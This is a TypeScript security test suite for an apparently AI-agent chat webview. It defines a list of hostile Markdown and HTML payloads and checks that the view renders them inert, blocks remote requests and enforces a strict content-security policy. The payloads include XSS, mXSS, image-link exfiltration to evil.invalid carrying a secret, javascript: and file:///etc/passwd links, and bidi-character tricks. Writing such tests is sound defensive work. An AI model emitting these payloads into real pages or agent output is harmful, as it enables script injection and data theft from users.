import assert from "node:assert/strict";
import { chatPageHtml, contentSecurityPolicy } from "../../src/protocol/chatPage.ts";
import { tookAtMost } from "../support/tookAtMost.ts";
import { Story, session } from "./fixtures.ts";
import { asked } from "./scenes.ts";
import { withView } from "./suite.ts";
import type { View } from "./view.ts";

const picture = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";

const hostile = [
  "![x](https://evil.invalid/?q=SECRET)",
  "![y][ref]\n\n[ref]: https://evil.invalid/ref.png",
  '<img src=x onerror="window.attacked = 1" srcset="https://evil.invalid/s.png 2x">',
  '<picture><source srcset="https://evil.invalid/p.png"></picture>',
  '<div style="background:url(https://evil.invalid/b.png)">x</div>',
  '<svg><image href="https://evil.invalid/i.svg"/><foreignObject><body onload="window.attacked = 1"></foreignObject></svg>',
  "<style>@import 'https://evil.invalid/a.css'; @font-face { src: url(https://evil.invalid/f) }</style>",
  "<script>window.attacked = 1</script>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.attacked=1&gt;">',
  "[a](javascript:window.attacked=1) [b](data:text/html,<script>window.attacked=1</script>) [c](vbscript:x)",
  "[ok](command:workbench.action.terminal.sendSequence?%7B%7D) [d](vscode://x/y) [e](file:///etc/passwd) [f](ms-word:ofe|u|x)",
  '<meta http-equiv=refresh content="0;url=https://evil.invalid"><base href="https://evil.invalid/">',
  '<link rel="dns-prefetch" href="https://evil.invalid"><link rel=preconnect href="https://evil.invalid">',
  '<form action="https://evil.invalid"><input autofocus onfocus="window.attacked = 1"></form><iframe src="https://evil.invalid"></iframe>',
  "https://evil.invalid/linkified",
].join("\n\n");

describe("webview: hostile words", () => {
  let view: View;
  withView((_stage, opened) => {
    view = opened;
  });
  beforeEach(async () => {
    await view.requests();
  });
  afterEach(async () => {
    assert.deepEqual(await view.violations(), []);
    assert.deepEqual(view.strayRequests, []);
    assert.equal(await view.page.evaluate("typeof attacked"), "undefined");
  });

  it("has one policy, letter for letter", () => {
    assert.equal(
      contentSecurityPolicy("N", "https://view.invalid"),
      "default-src 'none'; script-src 'nonce-N'; style-src https://view.invalid 'nonce-N'; font-src https://view.invalid; " +
        "img-src https://view.invalid data:; connect-src 'none'; media-src 'none'; object-src 'none'; frame-src 'none'; child-src 'none'; " +
        "worker-src 'none'; manifest-src 'none'; base-uri 'none'; form-action 'none'",
    );
    assert.match(
      chatPageHtml({ nonce: '"><script>', cspSource: "s", scriptUri: "u", styleUri: "t", fontUri: "f" }),
      /nonce="&quot;>&lt;script>" src="u"/,
    );
  });

  it("are inert in the agent's Markdown, finished or growing (WV-01, WV-02, WV-04, WV-05, WV-07)", async () => {
    const story = asked();
    await view.send(session(), story.delta(hostile).take());
    await view.send(story.agent(hostile).finish(hostile).take());
    const found = await view.page
      .locator(
        ".markdown :is(a, img, script, style, svg, math, iframe, form, input, meta, link, base, picture, [style], [onerror], [href], [src])",
      )
      .evaluateAll((nodes) => nodes.map((node) => node.outerHTML));
    assert.deepEqual(found, []);
    const links = await view.page
      .locator(".markdown")
      .first()
      .getByRole("link")
      .evaluateAll((nodes) => nodes.map((node) => node.getAttribute("data-address")));
    assert.deepEqual(
      links.filter((address) => address?.startsWith("https://evil.invalid") !== true),
      [],
    );
  });

  it("are inert as a person's message, command, path, output, error, model, wall and title (WV-17)", async () => {
    const evil = '<img src=x onerror="window.attacked = 1"><b>bold</b>';
    const story = new Story().user(evil).status("running").state("title", evil);
    const id = story.terminal(evil);
    story.terminalDone(id, evil, 1).read(evil).think(evil);
    story.failed(evil, evil, { kind: "internal", retryable: false, user_action: "none" });
    await view.send(session({ modelLabel: evil, wall: evil, isDemo: true }), story.take(), {
      type: "failed",
      message: evil,
    });
    assert.equal(await view.page.locator("img, b").count(), 0);
    assert.equal(await view.page.getByRole("heading", { level: 1 }).innerText(), evil);
  });

  it("cannot hide in code or paths (WV-13)", async () => {
    const story = asked().agent("`a\u202Eb`\n\n```\nc\u200Bd\n```").read("e\u2066f.ts");
    await view.send(session(), story.take());
    assert.deepEqual(await view.page.locator(".markdown code").allInnerTexts(), ["a\\u{202E}b", "c\\u{200B}d\n"]);
    assert.equal(await view.page.locator(".action code").innerText(), "e\\u{2066}f.ts");
  });

  it("show only pictures that they carry themselves", async () => {
    await view.send(session(), asked().agent(`![dot](${picture})\n\n![remote](https://evil.invalid/x.png)`).take());
    assert.deepEqual(await view.page.locator(".markdown img").evaluateAll((images) => images.map((image) => image.getAttribute("src"))), [
      picture,
    ]);
    assert.equal(await view.page.getByRole("link", { name: "remote" }).count(), 1);
  });

  it("open a web address only on a click, and only through the extension", async () => {
    await view.send(session(), asked().agent("See [the site](https://example.com/a?b=c).").take());
    const link = view.page.getByRole("link", { name: "the site" });
    await link.click();
    await link.press("Enter");
    const request = { type: "link.open", url: "https://example.com/a?b=c" };
    assert.deepEqual(await view.requests(), [request, request]);
  });

  it("are not taken from a foreign frame, or of a foreign shape (WV-10)", async () => {
    await view.send(session());
    await view.page.evaluate(
      "window.dispatchEvent(new MessageEvent('message', { origin: 'https://evil.invalid', data: { type: 'compose', text: 'evil' } }))",
    );
    assert.equal(await view.page.getByRole("textbox").inputValue(), "");
    await view.sendRaw({ type: "notifications", notifications: [{ type: "event.appended", seq: "x" }] });
    assert.match(await view.page.getByRole("alert").innerText(), /cannot read/);
  });

  it("hold up nothing, however long or nested (WV-16)", async () => {
    // The limit tells a hang from slowness, whatever else the machine does; how fast it is, is not asked here.
    const texts = [
      "x".repeat(5_000_000),
      ">".repeat(100_000),
      "[".repeat(99_000),
      `|${"a|".repeat(10_000)}\n|${"-|".repeat(10_000)}\n`,
      "*a_ ".repeat(20_000),
    ];
    for (const text of texts) {
      await view.reload();
      const update = asked().agent(text).take();
      await view.send(session());
      const startedAt = performance.now();
      await view.send(update);
      const tookMs = performance.now() - startedAt;
      tookAtMost(5_000, tookMs, `${text.slice(0, 10)}…`);
    }
  });

  it("copy only the code that is shown", async () => {
    await view.send(session(), asked().agent("```\necho hi\n```").take());
    await view.page.locator(".code-block").hover();
    await view.page.getByRole("button", { name: "Copy code" }).click();
    assert.equal(await view.page.evaluate("navigator.clipboard.readText()"), "echo hi\n");
  });
});
